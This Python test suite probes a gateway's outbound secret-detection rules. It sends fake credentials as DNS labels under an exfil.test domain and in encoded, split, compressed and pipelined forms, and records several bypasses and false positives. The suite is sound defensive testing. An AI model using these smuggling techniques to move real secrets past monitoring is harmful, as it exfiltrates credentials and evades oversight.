#!/usr/bin/python3
"""
Fourth probe of outbound secret detection (docs/dlp.md) under
`dlp: {mode: block}`: the gateway's own secrets (vault-secret) in names
and past its watch list, exemptions, custom rules' keyword window,
audit rows of refused requests, framing corners, and benign uploads.
Each test sends and asserts what docs/dlp.md promises. A test whose
docstring starts FINDING fails on the binary it was written against;
the others held, kept because no earlier probe sends them.

The upstream resolver is a recorder (test_dlp3_probe.UpstreamDNS): a name
that leaves the gateway is seen. The origins (test_dlp2_probe.RawOrigin)
record every byte they receive.
"""

import base64
import gzip
import io
import os
import sys
import tarfile
import time
import unittest
import zipfile
import zlib

sys.dont_write_bytecode = True  # keep the source tree clean
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import sgtest as T  # noqa: E402
from test_credentials import TestCA  # noqa: E402
import test_dlp2_probe as P2  # noqa: E402
import test_dlp3_probe as P3  # noqa: E402

API_HOST = "127.0.0.2"
B62 = P2.B62
rand = P2.rand
aws_key = P2.aws_key
github_token = P2.github_token

# A static credential's value, bound to bound.test only; label-safe (it
# can be a DNS label) as many API keys are (letters, digits, '-').
VAULT_SECRET = "vlt-Sekret-Qm7Tz2Lw9xR4kP"
OA_REFRESH = "oa-refresh-Tok3n-91c7e2d4b5a6"

POLICY = """\
sandboxes:
  - id: box-probe4
    policy: probe4
    source: [127.0.0.1/32]
  - id: box-probe4r
    policy: probe4r
    source: [127.0.0.3/32]
policies:
  - name: probe4
    allow:
      - host: api.test
        ports: [{api}]
        tls: intercept
      - host: docs.test
        ports: [{api}]
        tls: intercept
      - host: strict.test
        ports: [{api}]
        tls: intercept
        paths: ["/ok/*"]
      - host: plain.test
        ports: [{plain}]
      - host: "*.exfil.test"
        ports: [443]
    allow_private: [{api_ip}/32]
    credentials: [vlt-key, oa-key]
    dlp:
      mode: block
      rules:
        - id: acme-key
          regex: 'acme_[a-z0-9]{{24}}'
          keyword: deploy
      allow:
        - host: docs.test
          rule: jwt
  - name: probe4r
    allow:
      - host: api.test
        ports: [{api}]
        tls: intercept
    allow_private: [{api_ip}/32]
    dlp:
      mode: report
credentials:
  - name: vlt-key
    secret: vlt-secret
    hosts: [bound.test]
    headers: [Authorization]
  - name: oa-key
    kind: oauth2
    secret: oa-leak
    hosts: [auth-bound.test]
    oauth2:
      token_url: https://tok.test:1/t
      grant: client_credentials
"""


class Dlp4(unittest.TestCase):

    @classmethod
    def setUpClass(cls):
        cls.td = T.TempDir("sgtest-dlp4-")
        cls.addClassCleanup(cls.td.cleanup)
        d = cls.td.path
        cls.pki = TestCA(d)
        cls.api = P2.RawOrigin(API_HOST, *cls.pki.leaf("api.test",
            ["api.test", "docs.test", "strict.test"]))
        cls.addClassCleanup(cls.api.stop)
        cls.plain = P2.RawOrigin(API_HOST)
        cls.addClassCleanup(cls.plain.stop)
        cls.dns = P3.UpstreamDNS()
        cls.addClassCleanup(cls.dns.stop)
        cls.dport = T.free_port(udp_too=True)
        cls.gw = T.Gateway(d, cls.dns, {"p.yaml": POLICY.format(
            api=cls.api.port, plain=cls.plain.port, api_ip=API_HOST)},
            extra={"upstream": {"ca_bundle": cls.pki.cert},
                   "listen": {"dns": "127.0.0.1:%d" % cls.dport}})
        cls.gw.vault_set(("vlt-secret", VAULT_SECRET),
            ("oa-leak", "client_id=sgtest\nclient_secret=oa-client-Sekret-"
             "4f9d2c1b8a\nrefresh_token=%s\n" % OA_REFRESH))
        cls.gw.start()
        cls.addClassCleanup(cls.gw.stop)
        cls.gw_ca = cls.gw.ca_path()
        cls.ctx = cls.gw.client_context()
        cls.seq = 0

    # ------------------------------------------------------------ helpers

    def mark(self):
        Dlp4.seq += 1
        return "/p4/%d" % Dlp4.seq

    def tunnel(self, host="api.test", source=None):
        c, r = T.open_tunnel(self.gw.port, "%s:%d" % (host, self.api.port),
            source=source)
        self.addCleanup(c.close)
        self.assertEqual(r.status, 200, r)
        c.sock = self.ctx.wrap_socket(c.sock, server_hostname=host)
        return c

    def send(self, head, pieces=(), host="api.test", source=None):
        c = self.tunnel(host, source)
        if isinstance(head, str):
            head = head.encode("latin-1")
        c.send(head)
        for p in pieces:
            time.sleep(0.03)
            try:
                c.send(p)
            except OSError:
                break
        try:
            return c.read_response()
        except (EOFError, OSError, ValueError):
            return None

    def post(self, path, body, hdrs="", host="api.test", pieces=None,
             source=None):
        if isinstance(body, str):
            body = body.encode("latin-1")
        head = "POST %s HTTP/1.1\r\nHost: %s:%d\r\n%sContent-Length: %d\r\n\r\n" \
            % (path, host, self.api.port, hdrs, len(body))
        return self.send(head, (body,) if pieces is None else pieces, host,
            source)

    def ask(self, name):
        return P3.Dlp3.ask(self, name)

    def rows_with(self, path):
        return self.gw.wait_audit(pred=lambda r: (r.get("path") or "")
            .startswith(path))

    def leaks(self, needle, answer=None):
        """Where needle (str) is found: rows, log, answer body."""
        out = []
        time.sleep(0.3)
        for r in self.gw.audit_rows():
            for k, v in r.items():
                if needle.lower() in str(v).lower():
                    out.append("row %s: %s" % (k, v))
        if needle in self.gw.log_text():
            out.append("log")
        if answer is not None and needle.encode() in answer.body:
            out.append("answer body")
        return out

    # ------------------------------------------------ vault-secret: names

    def test_vault_secret_in_names(self):
        """FINDING. The gateway's own static credential value (bound to
        bound.test) as the first label of an allowed name: asked on the DNS
        listener (`<value>.c.exfil.test`, A) and as a CONNECT target
        (`CONNECT <value>.d.exfil.test:443`). docs/dlp.md 62-67: the
        vault-secret value "is looked for everywhere the rules are"; lines
        96 and 98-103: the rules' secrets are looked for in DNS query names
        and in every destination name (CONNECT target), "Block refuses it
        before any name is resolved". The controls: a Stripe key as the
        same label is refused (NXDOMAIN / 403) and never asked upstream.
        What happened: the vault value's name resolved (NOERROR on the DNS
        listener, 200 on CONNECT) and the upstream resolver was asked the
        name holding the value."""
        sk = "sk_live_" + rand(24)
        self.assertEqual(self.ask(sk + ".c.exfil.test"), 3)
        self.assertFalse(self.dns.saw(sk.encode()))
        c, r = T.open_tunnel(self.gw.port, sk + ".d.exfil.test:443")
        c.close()
        self.assertEqual(r.status, 403, r)
        misses = []
        rc = self.ask(VAULT_SECRET + ".c.exfil.test")
        if rc != 3 or self.dns.saw(VAULT_SECRET.encode()):
            misses.append("DNS listener: rcode %s, asked upstream %s" % (rc,
                self.dns.saw(VAULT_SECRET.encode())))
        c, r = T.open_tunnel(self.gw.port, VAULT_SECRET + ".d.exfil.test:443")
        c.close()
        if r.status != 403:
            misses.append("CONNECT: %s" % r.status)
        self.assertEqual(misses, [])

    # ------------------------------------------------ vault-secret: held

    def test_vault_secret_forms_held(self):
        """Held: the static value and the OAuth2 refresh token toward
        api.test in forms no earlier test sends: a multipart part's
        filename="...", a Cookie value percent-encoded (every byte), an
        Authorization: Basic of `user:VALUE` in the query's base64url, a
        chunk extension, a body of upper-case hex, a JSON body with every
        byte \\u-escaped upper-case, base64 of the value after a one-byte
        prefix wrapped at 76 columns. Each 403 vault-secret, none at the
        origin, no row or log line holds the value."""
        misses = []
        for value in (VAULT_SECRET, OA_REFRESH):
            pct_all = "".join("%%%02X" % b for b in value.encode())
            b64 = base64.b64encode(b"\x01" + value.encode()).decode()
            cases = [
                ("multipart filename", "POST", {"Content-Type":
                 "multipart/form-data; boundary=XyZ"},
                 ('--XyZ\r\nContent-Disposition: form-data; name="f"; '
                  'filename="%s.txt"\r\nContent-Type: text/plain\r\n\r\n'
                  'hello\r\n--XyZ--\r\n' % value)),
                ("cookie pct", "GET", {"Cookie": "a=1; s=" + pct_all}, None),
                ("query basic b64url", "GET", {}, None),
                ("upper hex body", "POST", {}, "h=" + value.encode().hex()
                 .upper()),
                ("json \\u upper", "POST", {"Content-Type":
                 "application/json"}, '{"v":"%s"}' % "".join(
                    "\\u%04X" % ord(ch) for ch in value)),
                ("wrapped b64 with prefix", "POST", {}, "\n".join(
                    b64[i:i + 76] for i in range(0, len(b64), 76))),
            ]
            for what, method, hdrs, body in cases:
                path = self.mark()
                target = path
                if what == "query basic b64url":
                    target += "?auth=" + P2.b64u(("user:" + value).encode())
                head = "%s %s HTTP/1.1\r\nHost: api.test:%d\r\n" % (method,
                    target, self.api.port)
                for k, v in hdrs.items():
                    head += "%s: %s\r\n" % (k, v)
                if body is not None:
                    head += "Content-Length: %d\r\n" % len(body)
                r = self.send(head + "\r\n", (body.encode(),) if body else ())
                if (r is None or r.status != 403 or b"vault-secret" not in
                        r.body or self.api.received(value)):
                    misses.append("%s %s: %s %s" % (value[:3], what,
                        r and r.status, r and r.body[:60]))
            # a chunk extension
            path = self.mark()
            r = self.send("POST %s HTTP/1.1\r\nHost: api.test:%d\r\n"
                "Transfer-Encoding: chunked\r\n\r\n" % (path, self.api.port),
                (b"5;n=%s\r\nhello\r\n" % value.encode(), b"0\r\n\r\n"))
            if r is None or r.status != 403 or self.api.received(value):
                misses.append("%s chunk-ext: %s" % (value[:3], r and r.status))
        self.assertEqual(misses, [])
        self.assertEqual(self.leaks(VAULT_SECRET), [])
        self.assertEqual(self.leaks(OA_REFRESH), [])

    def test_rule_exemption_keeps_vault_secret(self):
        """Held: docs.test has `allow: - host: docs.test, rule: jwt`; the
        vault value toward docs.test (not bound there) is still refused,
        and so is an AWS key id: a rule exemption exempts that rule
        alone (docs/dlp.md 24-27)."""
        misses = []
        for value, want in ((VAULT_SECRET, b"vault-secret"),
                            (aws_key(), b"aws-access-key-id")):
            r = self.post(self.mark(), "v=" + value, host="docs.test")
            if r is None or r.status != 403 or want not in r.body:
                misses.append("%s: %s" % (want, r and r.status))
        self.assertEqual(misses, [])
        r = self.post(self.mark(), "t=" + P2.jwt(), host="docs.test")
        self.assertEqual(r.status, 200, r)

    # ------------------------------------------------ generic-secret

    def test_generic_secret_colon_keyword_not_arn(self):
        """FINDING. generic-secret's AWS ARN carve-out (docs/dlp.md 60: "nor
        an AWS ARN's `:secret:NAME`") spares any key written between two
        colons: `db:password:<24 random>`, `svc:api_key:<24 random>`,
        `vault:secret:<24 random>` (no `arn:` anywhere) pass with 200 and
        reach the origin. Controls: the same values as `password: <value>`
        are refused 403 generic-secret. docs/dlp.md 60: `password`, ...,
        `api_key`, `secret` "then `=` or `:` ... and 16 to 64 value
        characters" is a finding."""
        misses = []
        for key in ("password", "api_key", "secret"):
            val = rand(24, B62 + "!#")
            r = self.post(self.mark(), "note: %s: %s\n" % (key, val))
            self.assertEqual(r.status, 403, "control %s: %r" % (key, r))
            val = rand(24, B62 + "!#")
            body = "conf=%s:%s:%s\n" % ({"password": "db", "api_key": "svc",
                "secret": "vault"}[key], key, val)
            r = self.post(self.mark(), body)
            if r is None or r.status != 403 or self.api.received(val):
                misses.append("%r: %s, origin got it %s" % (body.strip(),
                    r and r.status, self.api.received(val)))
        self.assertEqual(misses, [])

    # ------------------------------------------------ custom rules

    def acme(self):
        return "acme_" + rand(24, "abcdefghijklmnopqrstuvwxyz0123456789")

    def test_custom_keyword_window(self):
        """FINDING (false positive). The policy's custom rule acme-key has
        `keyword: deploy`; docs/dlp.md 23: the keyword is "optional:
        within 128 bytes before the match's end". A key whose only
        `deploy` starts 128 bytes before the match's end is refused (the
        control); one whose `deploy` starts 160 or 180 bytes before the
        match's end (it ends 154 / 174 bytes before; no other `deploy`
        near) is no finding under that rule and must pass. What happened:
        403 secret-detected (dlp rule acme-key) for both."""
        key = self.acme()
        body = "deploy" + "." * (128 - 6 - 29) + key
        self.assertEqual(len(body) - body.index("deploy"), 128)
        r = self.post(self.mark(), body)
        self.assertEqual(r.status, 403, r)
        misses = []
        for dist in (160, 180):
            key = self.acme()
            body = "deploy" + "." * (dist - 6 - 29) + key
            self.assertEqual(len(body) - body.index("deploy"), dist)
            r = self.post(self.mark(), body)
            if r is None or r.status != 200:
                misses.append("keyword %d bytes before the end: %s %s" % (
                    dist, r and r.status, r and r.body[:70]))
        self.assertEqual(misses, [])

    def test_policy_denied_row_keeps_secret(self):
        """FINDING (leak). Requests the policy itself refuses, a secret in
        their query: (a) strict.test allows only paths /ok/*; a GET of
        /other?token=<GitHub token> through an intercepted tunnel; (b) a
        plain-http absolute-form GET to a host no rule allows,
        `GET http://denied.test:PORT/x?token=<GitHub token>`. Both are
        refused 403 and nothing reaches an origin, but the audit row's
        `path` column and the log hold the query whole, token and all.
        Control: the same token in an allowed request's query is refused
        with the row's path `...?[redacted]` (test_dlp). docs/dlp.md
        190-194: "The secret itself never appears in a row, a log line or
        the answer: when it was in the request target, the row's `path`
        (and the log line's) keeps only what came before it"; 84-85: the
        gateway reads these requests in the clear."""
        misses = []
        tok = github_token()
        path = self.mark()
        r = self.send("GET %s?token=%s HTTP/1.1\r\nHost: strict.test:%d\r\n\r\n"
            % (path, tok, self.api.port), host="strict.test")
        self.assertIsNotNone(r)
        self.assertEqual(r.status, 403, r)
        self.assertFalse(self.api.received(tok))
        self.assertTrue(self.rows_with(path))
        misses += ["path rule: " + x for x in self.leaks(tok, r)]
        tok = github_token()
        c = T.Conn(self.gw.port)
        self.addCleanup(c.close)
        c.send("GET http://denied.test:%d/x?token=%s HTTP/1.1\r\nHost: "
               "denied.test:%d\r\n\r\n" % (self.plain.port, tok,
               self.plain.port))
        r = c.read_response()
        self.assertEqual(r.status, 403, r)
        self.assertFalse(self.plain.received(tok))
        misses += ["host not allowed: " + x for x in self.leaks(tok, r)]
        self.assertEqual(misses, [])

    def test_report_mode_header_and_body_rows(self):
        """Held: mode report (box-probe4r): a GitHub token in a header, and
        an AWS key in a gzip'd body, pass (200) with rows `report`
        `secret-detected` whose rule column shows the excerpt only; no
        row and no log line holds either secret."""
        tok = github_token()
        path = self.mark()
        r = self.send("GET %s HTTP/1.1\r\nHost: api.test:%d\r\nX-T: %s\r\n\r\n"
            % (path, self.api.port, tok), source="127.0.0.3")
        self.assertEqual(r.status, 200, r)
        rows = self.rows_with(path)
        self.assertEqual([(x["decision"], x["reason"]) for x in rows],
            [("report", "secret-detected")], rows)
        self.assertTrue(rows[0]["rule"].startswith("dlp:github-token header "
            "X-T ghp_/40/#"), rows[0]["rule"])
        key = aws_key()
        path2 = self.mark()
        gz = zlib.compress(("k=" + key).encode(), 6, 31)
        r = self.post(path2, gz, "Content-Encoding: gzip\r\n",
            source="127.0.0.3")
        self.assertEqual(r.status, 200, r)
        rows = self.rows_with(path2)
        self.assertTrue(rows[0]["rule"].startswith("dlp:aws-access-key-id "
            "body AKIA/20/#"), rows[0]["rule"])
        self.assertEqual(self.leaks(tok[4:]), [])
        self.assertEqual(self.leaks(key[4:]), [])

    # ------------------------------------------------ framing corners

    def test_straddles_held(self):
        """Held: a GitHub token cut across two gzip members; across two
        deflate blocks of one member (a full flush between); base64 of a
        .env whose token's base64 is cut across two chunks of a chunked
        body (the cut inside a quantum); the same cut across three chunks
        of one byte each; a pipelined POST after a GET with
        Content-Length: 0; Expect: 100-continue with the body in base64."""
        misses = []
        tok = github_token()
        text = ("x" * 300 + " token " + tok + " " + "y" * 300).encode()
        cut = text.index(tok.encode()) + 17
        two_members = (zlib.compress(text[:cut], 6, 31) +
                       zlib.compress(text[cut:], 6, 31))
        co = zlib.compressobj(6, zlib.DEFLATED, 31)
        two_blocks = (co.compress(text[:cut]) + co.flush(zlib.Z_FULL_FLUSH) +
                      co.compress(text[cut:]) + co.flush())
        self.assertEqual(gzip.decompress(two_members), text)
        self.assertEqual(gzip.decompress(two_blocks), text)
        for what, body in (("two gzip members", two_members),
                           ("two deflate blocks", two_blocks)):
            r = self.post(self.mark(), body, "Content-Encoding: gzip\r\n",
                pieces=(body[:len(body) // 2], body[len(body) // 2:]))
            if r is None or r.status != 403:
                misses.append("%s: %s" % (what, r and r.status))
        env = ("APP=1\nGITHUB_TOKEN=" + tok + "\n").encode()
        b = base64.b64encode(env)
        at = b.index(base64.b64encode(env[:24])[:28]) + 30
        for what, pieces in (
                ("b64 across 2 chunks", [b[:at], b[at:]]),
                ("b64 across 1-byte chunks", [b[:at], b[at:at + 1],
                 b[at + 1:at + 2], b[at + 2:]])):
            chunks = [b"%x\r\n%s\r\n" % (len(p), p) for p in pieces]
            chunks.append(b"0\r\n\r\n")
            r = self.send("POST %s HTTP/1.1\r\nHost: api.test:%d\r\n"
                "Transfer-Encoding: chunked\r\n\r\n" % (self.mark(),
                self.api.port), chunks)
            if r is None or r.status != 403 or self.api.received(b[at - 8:]):
                misses.append("%s: %s" % (what, r and r.status))
        key = aws_key()
        c = self.tunnel()
        bd = "k=" + key
        c.send(("GET /p0 HTTP/1.1\r\nHost: api.test:%d\r\nContent-Length: 0"
                "\r\n\r\nPOST /p1 HTTP/1.1\r\nHost: api.test:%d\r\n"
                "Content-Length: %d\r\n\r\n%s" % (self.api.port, self.api.port,
                len(bd), bd)).encode())
        try:
            c.read_response()
            c.read_response()
        except (EOFError, OSError, ValueError):
            pass
        time.sleep(0.2)
        if self.api.received(key):
            misses.append("pipelined after Content-Length: 0")
        key = aws_key()
        bd = base64.b64encode(("k=" + key).encode()).decode()
        c = self.tunnel()
        c.send("POST /e HTTP/1.1\r\nHost: api.test:%d\r\nExpect: 100-continue"
               "\r\nContent-Length: %d\r\n\r\n" % (self.api.port, len(bd)))
        r = None
        try:
            r = c.read_response()
            c.send(bd)
            while r.status == 100:
                r = c.read_response()
        except (EOFError, OSError, ValueError):
            pass
        if self.api.received(bd) or r is None or r.status != 403:
            misses.append("100-continue base64: %s" % (r and r.status))
        self.assertEqual(misses, [])

    # ------------------------------------------------ benign uploads

    def benign(self):
        out = []
        # a Python wheel (a zip) and an sdist (tar.gz) as agents upload them
        zb = io.BytesIO()
        with zipfile.ZipFile(zb, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("pkg/__init__.py", "def login(password):\n"
                "    return check(password=password)\n" * 40)
            z.writestr("pkg-1.0.dist-info/RECORD", "".join(
                "pkg/m%d.py,sha256=%s,%d\n" % (i, P2.b64u(os.urandom(32)),
                100 + i) for i in range(30)))
            z.writestr("pkg/data.bin", os.urandom(20000))
        out.append(("wheel", "application/octet-stream", zb.getvalue()))
        tb = io.BytesIO()
        with tarfile.open(fileobj=tb, mode="w:gz") as t:
            data = os.urandom(30000)
            ti = tarfile.TarInfo("pkg-1.0/blob.bin")
            ti.size = len(data)
            t.addfile(ti, io.BytesIO(data))
        out.append(("sdist", "application/gzip", tb.getvalue()))
        out.append((".env.example", "text/plain", (
            "DATABASE_URL=postgres://user:password@localhost:5432/app\n"
            "SECRET_KEY=<generate-with-openssl-rand>\n"
            "STRIPE_SECRET_KEY=sk_live_your_key_here_xxxxxxxx\n"
            "API_KEY=\nAWS_SECRET_ACCESS_KEY=${AWS_SECRET_ACCESS_KEY}\n"
            "JWT_SECRET=changeme_in_production_please\n"
            "PASSWORD=${DB_PASSWORD:-postgres}\n").encode()))
        out.append(("k8s manifest", "application/yaml", (
            "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n"
            "type: Opaque\ndata:\n  username: dXNlcm5hbWU=\n"
            "  password: cGFzc3dvcmQ=\n---\napiVersion: apps/v1\n"
            "kind: Deployment\nspec:\n  template:\n    spec:\n"
            "      containers:\n        - name: app\n          env:\n"
            "            - name: DB_PASSWORD\n              valueFrom:\n"
            "                secretKeyRef:\n                  name: db\n"
            "                  key: password\n").encode()))
        out.append(("gha workflow", "application/yaml", (
            "on: push\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n"
            "    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: ./deploy.sh\n        env:\n"
            "          API_KEY: ${{ secrets.PRODUCTION_API_KEY }}\n"
            "          password: ${{ secrets.DATABASE_PASSWORD_PROD }}\n"
            "          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_KEY_ID }}\n"
            ).encode()))
        out.append(("cloudformation", "application/yaml", (
            "Resources:\n  Db:\n    Type: AWS::RDS::DBInstance\n"
            "    Properties:\n      MasterUsername: admin\n"
            "      MasterUserPassword: !Ref DatabasePasswordParameter\n"
            "      KmsKeyId: !GetAtt Key.Arn\n  Fn:\n"
            "    Properties:\n      Role: arn:aws:iam::123456789012:role/"
            "service-role/lambda-exec-role-x7k2\n").encode()))
        out.append(("masked log", "text/plain", (
            "2026-01-01T00:00:00Z INFO connecting password=*** user=app\n"
            "2026-01-01T00:00:01Z INFO auth_token=[REDACTED] scope=read\n"
            "2026-01-01T00:00:02Z DEBUG api_key=****************** ok\n"
            ).encode()))
        out.append(("sql dump", "application/sql", (
            "INSERT INTO users (id, email, password) VALUES\n"
            "(1,'a@example.org','$2b$12$" + rand(53, B62 + "./") + "'),\n"
            "(2,'b@example.org','$argon2id$v=19$m=65536,t=3,p=4$" +
            rand(22, B62 + "+/") + "$" + rand(43, B62 + "+/") + "');\n"
            ).encode()))
        return out

    def test_fp_env_example_placeholders(self):
        """FINDING (false positive). Lines of a `.env.example` (a file an
        agent commits or uploads as a template) whose values are
        placeholders written in words, not one of the markers docs/dlp.md
        78-80 lists (`changeme` without the hyphen, `your_`, ...):
        `JWT_SECRET=change-me-in-production`,
        `SESSION_SECRET=replace-with-a-long-random-string`,
        `API_KEY=sk-REPLACE-ME-0123456789`. Each is refused 403
        secret-detected (dlp rule generic-secret): the words are 16-64
        value characters above 3.5 bits. (The same file with `changeme_`
        or `your_` placeholders passes: test_fp_agent_uploads.) No
        docs/dlp.md line says these pass; they are benign traffic refused
        under block."""
        misses = []
        for line in ("JWT_SECRET=change-me-in-production\n",
                     "SESSION_SECRET=replace-with-a-long-random-string\n",
                     "API_KEY=sk-REPLACE-ME-0123456789\n"):
            r = self.post(self.mark(), line)
            if r is None or r.status != 200:
                misses.append("%r: %s %s" % (line, r and r.status,
                    r and r.body[:70]))
        self.assertEqual(misses, [])

    def test_fp_agent_uploads(self):
        """Benign uploads pass under block (docs/dlp.md: the rules match
        secrets): a wheel (zip) and an sdist (tar.gz, application/gzip:
        not a content coding), a .env.example with documented-marker
        placeholders and ${VAR} references, a
        Kubernetes Secret with base64 `data:` of non-secrets and a
        secretKeyRef, a GitHub Actions workflow with ${{ secrets.X }}, a
        CloudFormation template with !Ref and ARNs, a log with masked
        values, a SQL dump with bcrypt and argon2 hashes."""
        misses = []
        for name, ctype, body in self.benign():
            r = self.post(self.mark(), body, "Content-Type: %s\r\n" % ctype)
            if r is None or r.status != 200:
                misses.append("%s: %s %s" % (name, r and r.status,
                    r and r.body[:100]))
        self.assertEqual(misses, [])


MANY = """\
sandboxes:
  - id: box-many
    policy: many
    source: [127.0.0.1/32]
policies:
  - name: many
    allow:
      - host: api.test
        ports: [{api}]
        tls: intercept
    allow_private: [{api_ip}/32]
    credentials: [{names}]
    dlp:
      mode: block
credentials:
{creds}"""

N_CREDS = 65


def many_value(i):
    return "many-Sekret-%02d-%s" % (i, rand(12))


class Dlp4Many(unittest.TestCase):
    """A policy with 65 static credentials, each bound to its own host."""

    @classmethod
    def setUpClass(cls):
        cls.td = T.TempDir("sgtest-dlp4m-")
        cls.addClassCleanup(cls.td.cleanup)
        d = cls.td.path
        cls.pki = TestCA(d)
        cls.api = P2.RawOrigin(API_HOST, *cls.pki.leaf("api.test",
            ["api.test"]))
        cls.addClassCleanup(cls.api.stop)
        cls.dns = T.Dnsmasq(d, [("api.test", API_HOST)])
        cls.addClassCleanup(cls.dns.stop)
        names = ["c%02d" % i for i in range(N_CREDS)]
        creds = "".join("  - name: %s\n    secret: s%s\n    hosts: [b%d.test]\n"
            "    headers: [Authorization]\n" % (n, n, i)
            for i, n in enumerate(names))
        cls.gw = T.Gateway(d, cls.dns, {"p.yaml": MANY.format(
            api=cls.api.port, api_ip=API_HOST, names=", ".join(names),
            creds=creds)}, extra={"upstream": {"ca_bundle": cls.pki.cert}})
        cls.values = [many_value(i) for i in range(N_CREDS)]
        cls.gw.vault_set(*[("s" + n, v) for n, v in zip(names, cls.values)])
        cls.gw.start()
        cls.addClassCleanup(cls.gw.stop)
        cls.ctx = cls.gw.client_context()

    def post(self, body):
        c, r = T.open_tunnel(self.gw.port, "api.test:%d" % self.api.port)
        self.addCleanup(c.close)
        self.assertEqual(r.status, 200, r)
        c.sock = self.ctx.wrap_socket(c.sock, server_hostname="api.test")
        c.send(("POST /m HTTP/1.1\r\nHost: api.test:%d\r\nContent-Length: %d"
                "\r\n\r\n%s" % (self.api.port, len(body), body)).encode())
        try:
            return c.read_response()
        except (EOFError, OSError, ValueError):
            return None

    def test_65th_credential_unwatched(self):
        """FINDING. A policy with 65 static credentials (c00..c64, each
        bound to its own host b<i>.test). The values of c00 and c63 (the
        64th) toward api.test are refused 403 vault-secret (the controls);
        the value of c64 -- the 65th -- passes (200) and reaches the
        origin. docs/dlp.md
        62-65: vault-secret is "a value the gateway holds for one of the
        policy's credentials, toward a host that credential is not bound
        to", every one of them; nothing bounds their number."""
        for i in (0, N_CREDS - 2):
            r = self.post("v=" + self.values[i])
            self.assertEqual(r.status, 403, "c%02d: %r" % (i, r))
            self.assertIn(b"vault-secret", r.body)
        misses = []
        for i in (N_CREDS - 1,):
            r = self.post("v=" + self.values[i])
            if r is None or r.status != 403 or self.api.received(
                    self.values[i]):
                misses.append("c%02d: %s, at the origin %s" % (i, r and
                    r.status, self.api.received(self.values[i])))
        self.assertEqual(misses, [])


if __name__ == "__main__":
    T.require_binary()
    unittest.main(verbosity=2)
